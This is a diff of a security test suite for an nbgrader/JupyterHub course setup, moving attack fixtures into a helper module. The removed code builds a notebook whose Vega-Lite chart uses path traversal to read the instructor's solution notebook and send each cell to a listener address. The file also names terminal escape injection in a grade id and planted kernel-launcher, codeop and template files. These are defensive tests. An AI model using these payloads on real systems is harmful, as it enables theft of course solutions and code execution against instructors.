@@ -86,11 +86,12 @@ import uuid
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from types import SimpleNamespace
-from urllib.parse import quote, unquote, urlencode, urlparse
+from urllib.parse import quote, urlencode, urlparse
 
 import nbformat
 import pytest
 import requests
+import traps
 from lab_cases import answer_cells, course_copy, l2, solution_answers
 from nbgrader.api import Gradebook
 from nbgrader.utils import parse_utc
@@ -408,60 +409,6 @@ LOOK_AT_ME = "look-at-me.ipynb"
 # A grade id that writes to a terminal: a window title, a cleared screen, the cursor home, a
 # forged log line, a bell
 HER_GRADE_ID = "\x1b]0;graded\x07\x1b[2J\x1b[H[AutogradeApp | INFO] all 13.0 / 13.0\x07"
-SHOWN_TEXT = "A chart of my results"
-
-
-def her_chart(listener):
-    """A notebook whose one output is a Vega-Lite chart that reads the instructor's solution
-    and sends each cell of it to `listener` (an http://host:port address) as an image's URL."""
-    spec = {
-        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
-        "data": {
-            "url": f"../../../../solutions/{LAB}/{LAB}.ipynb",
-            "format": {"type": "json", "property": "cells"},
-        },
-        "transform": [{"calculate": f"'{listener}/seen?' + datum.source", "as": "u"}],
-        "mark": {"type": "image", "width": 4, "height": 4},
-        "encoding": {"url": {"field": "u", "type": "nominal"}},
-    }
-    output = nbformat.v4.new_output(
-        "display_data",
-        data={"application/vnd.vegalite.v5+json": spec, "text/plain": "<VegaLite chart>"},
-    )
-    return nbformat.v4.new_notebook(
-        cells=[
-            nbformat.v4.new_markdown_cell(SHOWN_TEXT),
-            nbformat.v4.new_code_cell("results", outputs=[output], execution_count=1),
-        ],
-        metadata={
-            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
-        },
-    )
-
-
-@contextlib.contextmanager
-def listening_for_requests():
-    """An HTTP listener on loopback standing for an address of hers: (its URL, the paths it
-    heard, decoded)."""
-    heard = []
-
-    class Listener(http.server.BaseHTTPRequestHandler):
-        def do_GET(self):  # noqa: N802 (http.server's name)
-            heard.append(unquote(self.path))
-            self.send_response(404)
-            self.end_headers()
-
-        def log_message(self, *args):
-            pass
-
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield f"http://127.0.0.1:{server.server_address[1]}", heard
-    finally:
-        server.shutdown()
-        server.server_close()
 
 
 def open_notebook_as_instructor(hub, password, path, heard, seconds=45):
@@ -469,7 +416,7 @@ def open_notebook_as_instructor(hub, password, path, heard, seconds=45):
     looks at it for `seconds`: whether its markdown showed, and what `heard` got meanwhile."""
     with logged_in(hub, INSTRUCTOR, password) as page:
         page.goto(hub.url_of(f"/user/{INSTRUCTOR}/lab/tree/{path}"), timeout=120_000)
-        shown = page.locator(".jp-RenderedMarkdown").filter(has_text=SHOWN_TEXT).first
+        shown = page.locator(".jp-RenderedMarkdown").filter(has_text=traps.SHOWN_TEXT).first
         shown.wait_for(timeout=180_000)
         deadline = time.monotonic() + seconds
         while time.monotonic() < deadline and not heard:
@@ -1847,7 +1794,7 @@ def played(hub, machine):
     # the notebook's folder), which leaves its mark and then starts the real kernel.
     opened = home[INSTRUCTOR] / "mallory-opened"
     # And her chart, which sends what it reads to an address of hers.
-    listener = listening_for_requests()
+    listener = traps.listening()
     her_address, heard = listener.__enter__()
     # And a module and a template that the instructor's nbconvert would obey in her folder.
     converted = {
@@ -1857,7 +1804,7 @@ def played(hub, machine):
     for name, text in {
         VALIDATE_ME: nbformat.writes(marking),
         "ipykernel_launcher.py": HER_KERNEL_LAUNCHER.format(mark=opened.name),
-        LOOK_AT_ME: nbformat.writes(her_chart(her_address)),
+        LOOK_AT_ME: nbformat.writes(traps.her_chart(her_address, LAB)),
         "codeop.py": HER_CODEOP.format(mark=converted["her module"].name),
         "lab/index.html.j2": HER_TEMPLATE.format(mark=converted["her template"].name),
         "lab/static/style.css": "",
